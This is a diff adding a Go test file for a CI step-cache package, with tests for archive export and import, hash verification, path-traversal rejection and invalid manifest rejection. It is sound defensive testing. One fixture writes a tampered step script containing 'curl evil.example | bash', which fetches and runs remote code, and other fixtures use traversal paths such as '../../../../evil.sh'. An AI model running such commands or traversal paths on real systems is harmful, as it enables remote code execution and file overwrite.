@@ -0,0 +1,192 @@
+package stepcache
+
+import (
+	"archive/tar"
+	"compress/gzip"
+	"encoding/json"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func writeFile(t *testing.T, pth, content string, mode os.FileMode) {
+	require.NoError(t, os.MkdirAll(filepath.Dir(pth), 0755))
+	require.NoError(t, ioutil.WriteFile(pth, []byte(content), mode))
+}
+
+func createEntry(t *testing.T) Entry {
+	dir := t.TempDir()
+	sourceDir := filepath.Join(dir, "source")
+	writeFile(t, filepath.Join(sourceDir, "step.sh"), "#!/bin/bash\necho hello\n", 0755)
+	writeFile(t, filepath.Join(sourceDir, "lib", "util.sh"), "echo util\n", 0644)
+	writeFile(t, filepath.Join(sourceDir, ".git", "HEAD"), "ref: refs/heads/master\n", 0644)
+	require.NoError(t, os.Symlink("lib/util.sh", filepath.Join(sourceDir, "util.sh")))
+	writeFile(t, filepath.Join(dir, "step.yml"), "title: Hello\n", 0644)
+	writeFile(t, filepath.Join(dir, "bin", "my-step-1.0.0"), "binary", 0755)
+
+	return Entry{
+		Source:      "https://github.com/bitrise-io/bitrise-steplib.git",
+		ID:          "my-step",
+		Version:     "1.0.0",
+		SourceDir:   sourceDir,
+		StepYMLPath: filepath.Join(dir, "step.yml"),
+		BinaryPath:  filepath.Join(dir, "bin", "my-step-1.0.0"),
+	}
+}
+
+func TestExportImport(t *testing.T) {
+	entry := createEntry(t)
+	archivePath := filepath.Join(t.TempDir(), "steps-cache.tar.gz")
+
+	manifest, err := Export(archivePath, []Entry{entry})
+	require.NoError(t, err)
+	require.Equal(t, 1, len(manifest.Steps))
+	require.Equal(t, "my-step", manifest.Steps[0].ID)
+	require.Equal(t, "my-step-1.0.0", manifest.Steps[0].BinaryName)
+	require.NotEmpty(t, manifest.Steps[0].SourceHash)
+	require.NotEmpty(t, manifest.Steps[0].StepYMLHash)
+	require.NotEmpty(t, manifest.Steps[0].BinaryHash)
+
+	readManifest, err := ReadManifest(archivePath)
+	require.NoError(t, err)
+	require.Equal(t, manifest.Steps, readManifest.Steps)
+
+	targetDir := t.TempDir()
+	target := Entry{
+		SourceDir:   filepath.Join(targetDir, "cache", "my-step", "1.0.0"),
+		StepYMLPath: filepath.Join(targetDir, "collection", "my-step", "1.0.0", "step.yml"),
+		BinaryPath:  filepath.Join(targetDir, "bin", "my-step-1.0.0"),
+	}
+	locate := func(item ManifestItem) (Entry, error) {
+		return target, nil
+	}
+
+	t.Log("import")
+	{
+		result, err := Import(archivePath, locate, false)
+		require.NoError(t, err)
+		require.Equal(t, 1, len(result.Imported))
+		require.Equal(t, 0, len(result.Skipped))
+
+		hash, err := DirHash(target.SourceDir)
+		require.NoError(t, err)
+		require.Equal(t, manifest.Steps[0].SourceHash, hash)
+		require.NoDirExists(t, filepath.Join(target.SourceDir, ".git"))
+
+		info, err := os.Stat(filepath.Join(target.SourceDir, "step.sh"))
+		require.NoError(t, err)
+		require.Equal(t, os.FileMode(0755), info.Mode().Perm())
+
+		linkTarget, err := os.Readlink(filepath.Join(target.SourceDir, "util.sh"))
+		require.NoError(t, err)
+		require.Equal(t, "lib/util.sh", linkTarget)
+
+		content, err := ioutil.ReadFile(target.StepYMLPath)
+		require.NoError(t, err)
+		require.Equal(t, "title: Hello\n", string(content))
+
+		content, err = ioutil.ReadFile(target.BinaryPath)
+		require.NoError(t, err)
+		require.Equal(t, "binary", string(content))
+	}
+
+	t.Log("already cached steps are skipped, unless overwrite is set")
+	{
+		writeFile(t, filepath.Join(target.SourceDir, "step.sh"), "modified", 0755)
+
+		result, err := Import(archivePath, locate, false)
+		require.NoError(t, err)
+		require.Equal(t, 0, len(result.Imported))
+		require.Equal(t, 1, len(result.Skipped))
+
+		result, err = Import(archivePath, locate, true)
+		require.NoError(t, err)
+		require.Equal(t, 1, len(result.Imported))
+		content, err := ioutil.ReadFile(filepath.Join(target.SourceDir, "step.sh"))
+		require.NoError(t, err)
+		require.Equal(t, "#!/bin/bash\necho hello\n", string(content))
+	}
+}
+
+func TestImportVerifiesHashes(t *testing.T) {
+	entry := createEntry(t)
+	archivePath := filepath.Join(t.TempDir(), "steps-cache.tar.gz")
+	manifest, err := Export(archivePath, []Entry{entry})
+	require.NoError(t, err)
+
+	// an archive with the original manifest, but modified step source
+	tamperedPath := filepath.Join(t.TempDir(), "tampered.tar.gz")
+	writeArchive(t, tamperedPath, manifest, map[string]string{
+		"steps/0/source/step.sh": "#!/bin/bash\ncurl evil.example | bash\n",
+	})
+
+	targetDir := filepath.Join(t.TempDir(), "source")
+	_, err = Import(tamperedPath, func(item ManifestItem) (Entry, error) {
+		return Entry{SourceDir: targetDir}, nil
+	}, false)
+	require.Error(t, err)
+	require.Contains(t, err.Error(), "source hash mismatch")
+	require.NoDirExists(t, targetDir)
+}
+
+func TestImportRejectsPathTraversal(t *testing.T) {
+	archivePath := filepath.Join(t.TempDir(), "evil.tar.gz")
+	writeArchive(t, archivePath, Manifest{}, map[string]string{
+		"steps/0/source/../../../../evil.sh": "evil",
+	})
+
+	_, err := Import(archivePath, func(item ManifestItem) (Entry, error) {
+		return Entry{SourceDir: t.TempDir()}, nil
+	}, false)
+	require.Error(t, err)
+	require.Contains(t, err.Error(), "invalid path in archive")
+}
+
+func TestImportRejectsInvalidManifestItems(t *testing.T) {
+	for _, item := range []ManifestItem{
+		{ID: "../../evil", Version: "1.0.0"},
+		{ID: "script", Version: "../1.0.0"},
+		{ID: `script\evil`, Version: "1.0.0"},
+		{ID: "..", Version: "1.0.0"},
+		{ID: "script", Version: ""},
+	} {
+		archivePath := filepath.Join(t.TempDir(), "evil.tar.gz")
+		writeArchive(t, archivePath, Manifest{Steps: []ManifestItem{item}}, nil)
+
+		located := false
+		_, err := Import(archivePath, func(item ManifestItem) (Entry, error) {
+			located = true
+			return Entry{SourceDir: t.TempDir()}, nil
+		}, true)
+		require.Error(t, err)
+		require.Contains(t, err.Error(), "invalid step")
+		require.False(t, located)
+	}
+}
+
+func writeArchive(t *testing.T, archivePath string, manifest Manifest, files map[string]string) {
+	file, err := os.Create(archivePath)
+	require.NoError(t, err)
+	gzipWriter := gzip.NewWriter(file)
+	tarWriter := tar.NewWriter(gzipWriter)
+
+	manifestPath := filepath.Join(t.TempDir(), manifestName)
+	exported := Manifest{Steps: manifest.Steps}
+	manifestBytes, err := json.Marshal(exported)
+	require.NoError(t, err)
+	require.NoError(t, ioutil.WriteFile(manifestPath, manifestBytes, 0644))
+	require.NoError(t, addFile(tarWriter, manifestPath, manifestName))
+
+	for name, content := range files {
+		require.NoError(t, tarWriter.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0755, Size: int64(len(content))}))
+		_, err := tarWriter.Write([]byte(content))
+		require.NoError(t, err)
+	}
+
+	require.NoError(t, tarWriter.Close())
+	require.NoError(t, gzipWriter.Close())
+	require.NoError(t, file.Close())
+}